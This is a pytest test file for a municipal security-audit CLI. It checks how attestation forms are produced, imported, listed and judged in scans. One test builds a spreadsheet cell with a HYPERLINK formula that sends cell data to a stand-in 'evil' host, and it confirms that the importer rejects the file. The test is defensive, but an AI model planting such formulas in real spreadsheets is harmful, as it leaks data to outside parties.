"""Forms go out, answers come back, a run judges them."""

import io
import threading
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook

from auditor.audit import scan
from auditor.cli import options
from auditor.cli.progress import Progress
from auditor.cli.remembered import remembering
from auditor.cli.request import Choice, make_request
from auditor.errors import ExitCode
from auditor.load.attest_sheet import FIRST
from auditor.load.attest_words import Part
from auditor.model.base import Lang
from auditor.model.fact import Evidence, Fact, Gap, Why
from auditor.model.result import RunState, Status, TargetState, Visit
from auditor.store import open_store
from tests.store.conftest import begin, run

NOW = datetime(2026, 11, 24, 1, tzinfo=UTC)
INVENTORY = """
city: {name: Kota Batu}
authority:
  letter: 800/1
  date: 2026-01-02
  valid_until: 2027-12-31
  scope: {networks: [10.0.0.0/16], domains: [batu.lab]}
opds:
  - {id: kominfo, name: Diskominfo, leads: true}
  - {id: dinkes, name: Dinas Kesehatan}
targets:
  - {id: web1, opd: dinkes, address: 10.0.0.1, ssh: null}
"""
POLICY = """
id: people
title: {id: orang, en: people}
checks:
  - use: attest.*
"""
ALL = "all: {role: Kepala Dinas, date: 2026-11-01, letter: 800/12}\nanswers:\n"
FORM = "form: auditor-attest/1\nopd: dinkes\n" + ALL


@pytest.fixture(autouse=True)
def world(monkeypatch, auditor, tmp_path):
    monkeypatch.setattr(options, "now", lambda: NOW)
    (tmp_path / "inventory.yaml").write_text(INVENTORY)
    (tmp_path / "people.yaml").write_text(POLICY)
    return tmp_path


def take(auditor, folder, lines, opd="dinkes"):
    path = folder / "filled.yaml"
    path.write_text(FORM.replace("dinkes", opd) + lines)
    return auditor("attest", "import", path)


def test_a_form_of_an_office_that_is_not_there_is_told(auditor):
    said = auditor("attest", "form", "--opd", "dinks")

    assert said.code == ExitCode.USAGE
    assert "did you mean 'dinkes'" in said.err


def test_a_form_never_overwrites_a_file(auditor, world):
    (world / "attest-dinkes.xlsx").write_bytes(b"answers of weeks")

    said = auditor("attest", "form", "--opd", "dinkes")

    assert said.code == ExitCode.USAGE
    assert "is there already" in said.err
    assert (world / "attest-dinkes.xlsx").read_bytes() == b"answers of weeks"


def test_a_form_that_cannot_be_written_is_told(auditor, world):
    said = auditor("attest", "form", "--opd", "dinkes", "-o", world / "none" / "x.xlsx")

    assert said.code == ExitCode.STORE


def test_a_form_from_another_city_is_told_with_its_line(auditor, world):
    said = take(auditor, world, "  mki-risk: {answer: ya}\n", opd="dinsos")

    assert said.code == ExitCode.USAGE
    assert "filled.yaml:2: the inventory has no office 'dinsos'" in said.err


def test_mistakes_leave_the_store_as_it_was(auditor, world):
    said = take(auditor, world, "  mki-risk: {answer: ya}\n  mki-assets: {answer: mungkin}\n")

    assert said.code == ExitCode.USAGE
    assert "filled.yaml:6" in said.err
    with open_store("audit-out", lock=False) as store:
        assert store.statements() == ()


def test_a_spreadsheet_goes_out_and_comes_back(auditor, world):
    assert auditor("attest", "form", "--opd", "dinkes").code == 0
    path = world / "attest-dinkes.xlsx"
    book = load_workbook(path)
    page = book.worksheets[0]
    rows = {row[1].value: row[0].row for row in page.iter_rows() if row[1].value}

    def fill(code, part, value):
        page.cell(rows[code], FIRST + tuple(Part).index(part)).value = value

    fill("*", Part.ROLE, "Kepala Dinas")
    fill("*", Part.DATE, NOW.date())
    fill("*", Part.LETTER, "800/12")
    fill("restore-drill", Part.ANSWER, datetime(2026, 10, 1))  # noqa: DTZ001 - a cell has no zone
    fill("restore-drill", Part.EVIDENCE, "berita.pdf")
    fill("skill-literacy", Part.ANSWER, 85)
    book.save(path)
    (world / "bukti").mkdir()
    (world / "bukti" / "berita.pdf").write_bytes(b"%PDF berita")

    said = auditor("attest", "import", path, "--evidence", world / "bukti")

    assert (said.code, said.err) == (0, "")
    assert said.out == "dinkes: 2 new answers, 0 changed, 0 the same, 1 files of evidence\n"
    shown = auditor("attest", "show", "restore-drill", "--opd", "dinkes", "--save", "out")
    assert "2026-10-01" in shown.out
    assert "berita.pdf (11 B, " in shown.out
    assert (world / "out" / "berita.pdf").read_bytes() == b"%PDF berita"
    again = auditor("attest", "show", "restore-drill", "--opd", "dinkes", "--save", "out")
    assert again.code == ExitCode.USAGE


def test_a_form_in_yaml_goes_to_stdout_and_takes_the_last_answers_along(auditor, world):
    take(auditor, world, "  mki-risk: {answer: sebagian}\n")

    said = auditor(
        "attest", "form", "--opd", "dinkes", "--format", "yaml", "-o", "-", "--lang", "en"
    )

    assert 'answer: "partly"' in said.out
    assert 'role: "Kepala Dinas"' in said.out
    (world / "again.yaml").write_text(said.out)
    assert "0 new answers, 0 changed, 1 the same" in auditor("attest", "import", "again.yaml").out


def test_the_kind_of_a_form_follows_its_name(auditor, world):
    assert auditor("attest", "form", "--opd", "dinkes", "-o", "x.yaml").code == 0

    assert "form: auditor-attest/1" in (world / "x.yaml").read_text()


def test_notes_are_told(auditor, world):
    said = take(auditor, world, "  restore-drill: {answer: 2026-10-01}\n")

    assert said.code == 0
    assert "note: " in said.err
    assert "counts only when its evidence is there" in said.err


def test_the_list_says_how_answers_stand(auditor, world, monkeypatch):
    take(auditor, world, "  mki-risk: {answer: ya}\n  app-mfa: {answer: ya, date: 2025-12-10}\n")

    said = auditor("attest", "list", "--lang", "en")
    rows = auditor("attest", "list", "--opd", "dinkes", "--lang", "en").out.splitlines()

    assert "dinkes: 1 answered, 1 ends soon, 0 lapsed, 0 incomplete, " in said.out
    assert "kominfo: 0 answered" in said.out
    assert any(row.startswith("ends soon   2026-12-10  yes") and "app-mfa" in row for row in rows)
    monkeypatch.setattr(options, "now", lambda: NOW.replace(year=2028))
    assert (
        "dinkes: 0 answered, 0 ends soon, 2 lapsed" in auditor("attest", "list", "--lang", "en").out
    )


def test_show_tells_all_answers_the_newest_first(auditor, world):
    take(auditor, world, "  mki-risk: {answer: tidak, note: belum sempat}\n")
    take(auditor, world, "  mki-risk: {answer: ya, valid_until: 2027-01-01}\n")

    lines = auditor(
        "attest", "show", "mki-risk", "--opd", "dinkes", "--lang", "en"
    ).out.splitlines()

    assert [line.split()[-1] for line in lines if "UTC" in line] == ["yes", "no"]
    assert "  Note: belum sempat" in lines
    assert "missing" in auditor("attest", "show", "app-mfa", "--opd", "dinkes", "--lang", "en").out
    assert auditor("attest", "show", "mki-policy", "--opd", "dinkes").code == ExitCode.USAGE


def scanned(auditor, *more):
    return auditor("scan", "--policy", "people.yaml", "--quiet", "--fail-on", "none", *more)


def results(target):
    with open_store("audit-out", lock=False) as store:
        visit = store.visit(store.run("last").id, target)
        return {one.check: one for one in visit.results}


def test_a_run_judges_what_offices_state(auditor, world):
    take(auditor, world, "  mki-risk: {answer: ya}\n  app-mfa: {answer: sebagian}\n")

    assert scanned(auditor).code == 0

    dinkes, kominfo = results("opd.dinkes"), results("opd.kominfo")
    assert dinkes["attest.mki-risk"].status is Status.PASS
    assert dinkes["attest.app-mfa"].status is Status.FAIL
    assert dinkes["attest.app-keys"].status is Status.NOT_CHECKED
    assert dinkes["attest.mki-policy"].status is Status.NOT_APPLICABLE
    assert kominfo["attest.mki-policy"].status is Status.NOT_CHECKED
    assert dinkes["attest.contradiction"].status is Status.NOT_APPLICABLE
    assert auditor("eval", "--policy", "people.yaml").code == ExitCode.FINDINGS


@pytest.fixture
def stopped(auditor, world):
    """A run that was stopped before it came to any target."""
    ended = threading.Event()
    ended.set()
    take(auditor, world, "  mki-risk: {answer: ya}\n")
    with open_store("audit-out", lock=True) as store:
        asked = request("people.yaml")
        watcher = Progress(asked.settings.inventory, Lang.ID, quiet=True)
        scan(asked, store, ended, watcher)


@pytest.mark.usefixtures("stopped")
def test_a_resumed_run_knows_nothing_of_later_statements(auditor, world, monkeypatch):
    monkeypatch.setattr(options, "now", lambda: NOW + timedelta(hours=1))
    take(auditor, world, "  app-mfa: {answer: ya}\n  mki-risk: {answer: tidak}\n")

    assert scanned(auditor, "--resume").code == 0

    assert results("opd.dinkes")["attest.mki-risk"].status is Status.PASS
    assert results("opd.dinkes")["attest.app-mfa"].status is Status.NOT_CHECKED


@pytest.mark.usefixtures("stopped")
def test_a_run_is_resumed_only_as_it_began(auditor, world):
    more = INVENTORY.replace("targets:", "  - {id: baru, name: Dinas Baru}\ntargets:")
    (world / "inventory.yaml").write_text(more)

    said = scanned(auditor, "--resume")

    assert said.code == ExitCode.USAGE
    assert "changed since that run began" in said.err


def attached(auditor):
    said = auditor("pack", "--control", "PEMDI-2026:I12", "-o", "packs")
    assert said.code == 0, said.err
    return [path.name for path in Path("packs").glob("I12-*/attached/*")]


def test_a_pack_holds_the_evidence_that_the_run_knew(auditor, world, monkeypatch):
    (world / "people.yaml").write_text(POLICY + "frameworks: [pemdi-2026]\n")
    for name in ("awal.pdf", "baru.pdf"):
        (world / name).write_bytes(name.encode())
    line = "  incident-register: {{answer: 2026-10-01, valid_until: 2027-06-30, evidence: [{}]}}\n"
    take(auditor, world, line.format("awal.pdf"), opd="kominfo")
    scanned(auditor)
    monkeypatch.setattr(options, "now", lambda: NOW + timedelta(hours=1))
    take(auditor, world, line.format("baru.pdf"), opd="kominfo")

    assert attached(auditor) == ["001-kominfo-awal.pdf"]

    scanned(auditor, "--opd", "dinkes")
    assert attached(auditor) == []

    monkeypatch.setattr(options, "now", lambda: NOW.replace(year=2027, month=12))
    scanned(auditor)
    assert attached(auditor) == [], "it has lapsed"


def test_nothing_answered_is_no_gap(auditor):
    assert auditor("scan", "--policy", "people.yaml", "--quiet").code == 0


def visited(scope):
    with open_store("audit-out", lock=False) as store:
        (name,) = [one.id for one in store.runs() if one.scope.endswith(scope)]
        return store.visited(name)


def test_filters_choose_offices_too(auditor):
    for name, value in (("target", "web1"), ("opd", "dinkes"), ("target", "opd.kominfo")):
        assert scanned(auditor, f"--{name}", value).code == 0

    assert visited(" targets=web1") == {"web1"}
    assert visited(" opds=dinkes") == {"web1", "opd.dinkes"}
    assert visited(" targets=opd.kominfo") == {"opd.kominfo"}


def request(policy, **more):
    choice = Choice(inventory_path=Path("inventory.yaml"), policy=policy, **more)
    return make_request(choice, Path("audit-out"), jobs=1, password=None)


def test_offices_are_asked_only_where_the_policy_asks_people(world):
    (world / "some.yaml").write_text(
        POLICY.replace("people", "some") + "    for: {opd: [dinkes]}\n"
    )

    assert [t.id for t in request("quick").targets] == ["web1"]
    assert [t.id for t in request("some.yaml").targets] == ["web1", "opd.dinkes"]
    assert [t.id for t in request("people.yaml", checks=("attest.mki-risk",)).targets] == [
        "web1",
        "opd.kominfo",
        "opd.dinkes",
    ]
    assert [t.id for t in request("people.yaml", local=True).targets] == ["localhost"]


def test_what_the_run_before_saw_is_at_hand(world):
    asked = request("quick")
    seen = Fact(target="web1", probe="http", value={"a": 1}, evidence=Evidence(source="x"))
    gap = Gap(target="web1", probe="tls", why=Why.TIMEOUT, detail="x")
    with open_store("audit-out", lock=True) as store:
        assert remembering(asked, store).settings.before("web1", "http") is None
        one = begin(store, run("run-1", NOW, asked.scope))
        visited = Visit(
            target="web1", state=TargetState.SEEN, reason="", started=NOW, ms=1, results=()
        )
        store.put(one.id, visited, (seen, gap))
        store.finish(one.id, RunState.COMPLETE, NOW, ())

        settings = remembering(asked, store).settings
        assert settings.before("web1", "http") == seen
        assert settings.before("web1", "tls") is None
        assert settings.before("web9", "http") is None
        assert settings.attested is None


def test_a_hostile_spreadsheet_is_told_in_words(auditor, world):
    book = load_workbook(_form(auditor, world))
    book.worksheets[0].cell(9, FIRST).value = '=HYPERLINK("http://evil/?"&A1)'
    out = io.BytesIO()
    book.save(out)
    (world / "evil.xlsx").write_bytes(out.getvalue())

    said = auditor("attest", "import", "evil.xlsx")

    assert said.code == ExitCode.USAGE
    assert "evil.xlsx:9: holds a formula" in said.err


def _form(auditor, world):
    auditor("attest", "form", "--opd", "dinkes", "-o", world / "form.xlsx")
    return world / "form.xlsx"
